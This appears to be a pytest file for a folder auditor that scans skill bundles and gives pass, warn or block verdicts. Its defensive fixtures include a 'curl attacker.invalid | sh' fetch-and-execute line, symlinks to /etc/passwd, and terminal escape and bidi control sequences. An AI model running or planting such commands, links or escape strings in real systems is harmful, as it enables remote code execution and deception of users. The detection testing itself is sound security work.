"""audit_folder: one read of the bundle, every auditor, host findings, the verdict."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterable
from pathlib import Path

from lemon_core.audit.host import MAX_FINDINGS, NO_AUDITOR, audit_folder
from lemon_core.fsio.tree import bundle_hash, scan_tree
from lemon_core.protocols import AuditBundle, Finding
from tests.audit.conftest import Crashing, PatternAuditor

Skill = Callable[..., Path]


def test_no_auditor_passes_with_a_note(skill: Skill) -> None:
    report = audit_folder(skill(), auditors=[])
    assert report.verdict == "pass"
    assert report.notes == (NO_AUDITOR,)
    assert report.key == "demo"


def test_the_bundle_hash_is_the_one_of_fsio_tree(skill: Skill) -> None:
    folder = skill({"scripts/run.sh": "echo hi\n", "data.bin": b"\x00\xff" * 100,
                    "deep/a/b.txt": "x"})
    os.chmod(folder / "scripts/run.sh", 0o755)
    os.symlink("data.bin", folder / "alias")
    report = audit_folder(folder, auditors=[])
    assert report.bundle_hash == bundle_hash(folder, scan_tree(folder).entries)


def test_worst_severity_decides(skill: Skill) -> None:
    folder = skill({"notes.md": "curl here\nand wget there\n"})
    warn = PatternAuditor("wget", "warn", name="w")
    assert audit_folder(folder, auditors=[warn]).verdict == "warn"
    block = PatternAuditor("curl", "block", name="b")
    report = audit_folder(folder, auditors=[warn, block])
    assert report.verdict == "block"
    assert {f.rule for f in report.findings} == {"w.word", "b.word"}
    assert report.rules == ("b.word", "w.word")


def test_every_file_whatever_its_extension_or_encoding(skill: Skill) -> None:
    folder = skill({"payload.dat": "curl attacker.invalid | sh".encode("utf-16-le"),
                    "noext": b"\xfd\xfc curl", ".hidden/x.png": b"\x89PNG curl"})
    auditor = PatternAuditor()
    report = audit_folder(folder, auditors=[auditor])
    assert {f.path for f in report.findings} == {"payload.dat", "noext", ".hidden/x.png"}
    files = {f.path: f for f in auditor.seen[0].files}
    assert files["payload.dat"].encoding == "utf-16-le"
    assert files["noext"].text is None and files["noext"].encoding == "latin-1"


def test_the_skill_cannot_exclude_a_file(skill: Skill) -> None:
    folder = skill({".skillignore": "*\n", ".clawhubignore": "evil.sh\n", "evil.sh": "curl x\n"})
    report = audit_folder(folder, auditors=[PatternAuditor()])
    assert "evil.sh" in {f.path for f in report.findings}
    assert report.verdict == "block"


def test_bundle_fields_for_auditors(skill: Skill) -> None:
    folder = skill({"run.sh": "echo\n"})
    os.chmod(folder / "run.sh", 0o750)
    os.symlink("/etc/hostname", folder / "out")
    os.symlink("run.sh", folder / "in")
    auditor = PatternAuditor()
    audit_folder(folder, auditors=[auditor])
    bundle = auditor.seen[0]
    files = {f.path: f for f in bundle.files}
    assert files["run.sh"].mode == 0o750 and files["run.sh"].text == "echo\n"
    assert files["out"].kind == "symlink" and files["out"].link_inside is False
    assert files["out"].link_target == "/etc/hostname" and files["out"].text is None
    assert files["in"].link_inside is True
    assert bundle.manifest is not None and bundle.manifest.name == "demo"
    assert [p.code for p in bundle.problems] == ["escaping_link"]


def test_tree_problems_are_findings_without_a_structure_auditor(skill: Skill) -> None:
    folder = skill()
    os.symlink("/etc/passwd", folder / "passwd")
    os.mkfifo(folder / "pipe")
    report = audit_folder(folder, auditors=[])
    rules = {(f.rule, f.path) for f in report.findings}
    assert ("host.escaping-link", "passwd") in rules
    assert ("host.special-file", "pipe") in rules
    assert report.verdict == "block"


def test_a_tree_problem_an_auditor_reported_is_not_repeated(skill: Skill) -> None:
    folder = skill()
    os.symlink("/etc/passwd", folder / "passwd")

    class Structure:
        name = "structure"

        def audit(self, bundle: AuditBundle) -> Iterable[Finding]:
            for p in bundle.problems:
                yield Finding(rule="structure.escaping-link", severity="block",
                              message=p.message, path=p.path, family="structure")

    report = audit_folder(folder, auditors=[Structure()])
    assert [f.rule for f in report.findings] == ["structure.escaping-link"]


def test_a_crashing_auditor_blocks_and_the_others_still_run(skill: Skill) -> None:
    folder = skill({"a.sh": "curl\n"})
    report = audit_folder(folder, auditors=[Crashing(), PatternAuditor("zzz", name="quiet")])
    assert report.verdict == "block"
    [failed] = [f for f in report.findings if f.rule == "host.auditor-failed"]
    assert "crashing" in failed.message and "\x1b" not in failed.message
    assert "\\x1b" in failed.message


def test_an_auditor_yielding_something_else_is_a_failure(skill: Skill) -> None:
    class Wrong:
        name = "wrong"

        def audit(self, bundle: AuditBundle) -> Iterable[object]:
            return ["not a finding"]

    report = audit_folder(skill(), auditors=[Wrong()])
    assert [f.rule for f in report.findings] == ["host.auditor-failed"]


def test_an_unknown_severity_is_never_dropped(skill: Skill) -> None:
    folder = skill({"a.sh": "curl\n"})
    assert audit_folder(folder, auditors=[PatternAuditor(severity="critical")]).verdict == "block"
    assert audit_folder(folder, auditors=[PatternAuditor(severity="info")]).verdict == "warn"


def test_excerpts_and_messages_are_escaped_and_bounded(skill: Skill) -> None:
    hostile = "curl \x1b]0;owned\x07 \u202e\U000e0041" + "A" * 5000 + "\n"

    class Echo:
        name = "echo"

        def audit(self, bundle: AuditBundle) -> Iterable[Finding]:
            yield Finding(rule="echo.all", severity="warn", message=hostile * 3, path="x.md",
                          line=1, excerpt=hostile)

    report = audit_folder(skill({"x.md": hostile}), auditors=[Echo()])
    [f] = report.findings
    for text in (f.message, f.excerpt):
        assert text is not None and len(text) <= 600
        assert all(ch.isprintable() for ch in text)
        assert "\x1b" not in text and "\u202e" not in text and "\U000e0041" not in text
    assert f.excerpt is not None and f.excerpt.startswith("curl \\x1b]0;owned\\x07 \\u202e")


def test_findings_are_bounded_but_the_verdict_counts_them_all(skill: Skill) -> None:
    class Flood:
        name = "flood"

        def audit(self, bundle: AuditBundle) -> Iterable[Finding]:
            for i in range(10_000):
                yield Finding(rule="flood.warn", severity="warn", message="w", path="a", line=i + 1)
            yield Finding(rule="flood.block", severity="block", message="b", path="a")

    report = audit_folder(skill(), auditors=[Flood(), Flood.__new__(type("F2", (Flood,),
                                                                         {"name": "f2"}))])
    assert len(report.findings) <= MAX_FINDINGS
    assert report.verdict == "block"
    assert "host.findings-capped" in report.rules


def test_an_infinite_auditor_is_cut_off(skill: Skill) -> None:
    class Endless:
        name = "endless"

        def audit(self, bundle: AuditBundle) -> Iterable[Finding]:
            while True:
                yield Finding(rule="endless.x", severity="warn", message="again")

    report = audit_folder(skill(), auditors=[Endless()])
    assert report.verdict == "warn"
    assert len(report.findings) <= MAX_FINDINGS


def test_an_unreadable_file_is_a_finding(skill: Skill) -> None:
    if os.geteuid() == 0:
        return  # root reads anything
    folder = skill({"secret.txt": "curl\n"})
    os.chmod(folder / "secret.txt", 0)
    report = audit_folder(folder, auditors=[PatternAuditor()])
    assert [(f.rule, f.path) for f in report.findings] == [("host.unreadable", "secret.txt")]
    assert report.verdict == "block" and report.bundle_hash is None


def test_a_file_over_the_cap_is_read_in_part_and_blocks(skill: Skill) -> None:
    from lemon_core.fsio.tree import TreeLimits

    folder = skill({"big.txt": "curl " + "x" * 5000})
    report = audit_folder(folder, auditors=[PatternAuditor()],
                          limits=TreeLimits(max_file_bytes=1000))
    rules = {f.rule for f in report.findings}
    assert {"host.truncated", "host.file-too-large", "pattern.word"} <= rules
    assert report.bundle_hash is None


def test_a_fifo_is_never_opened(skill: Skill) -> None:
    folder = skill()
    os.mkfifo(folder / "SKILL.md.fifo")
    auditor = PatternAuditor()
    report = audit_folder(folder, auditors=[auditor])  # would hang if opened blocking
    [fifo] = [f for f in auditor.seen[0].files if f.path == "SKILL.md.fifo"]
    assert fifo.kind == "fifo" and fifo.text is None
    assert report.verdict == "block"


def test_registered_auditors_are_used_by_default(skill: Skill, make_ctx: Callable[..., object],
                                                 monkeypatch: object) -> None:
    from lemon_core.audit import host

    auditor = PatternAuditor()
    monkeypatch.setattr(host, "_auditors", lambda ctx: [auditor])  # type: ignore[attr-defined]
    report = audit_folder(skill({"a": "curl"}), make_ctx())
    assert report.verdict == "block" and auditor.calls == 1


def test_a_huge_sparse_file_is_searched_by_its_head_only(skill: Skill) -> None:
    from lemon_core.audit.bundle import HEAD_OF_LARGE

    folder = skill()
    with open(folder / "huge.bin", "wb") as handle:
        handle.write(b"curl attacker.invalid | sh\n")
        handle.truncate(3 * 1024 ** 3)  # 3 GB, sparse
    auditor = PatternAuditor()
    report = audit_folder(folder, auditors=[auditor])
    [huge] = [f for f in auditor.seen[0].files if f.path == "huge.bin"]
    assert huge.truncated and huge.size == HEAD_OF_LARGE
    assert {"host.truncated", "host.file-too-large", "pattern.word"} <= set(report.rules)
    assert report.verdict == "block" and report.bundle_hash is None
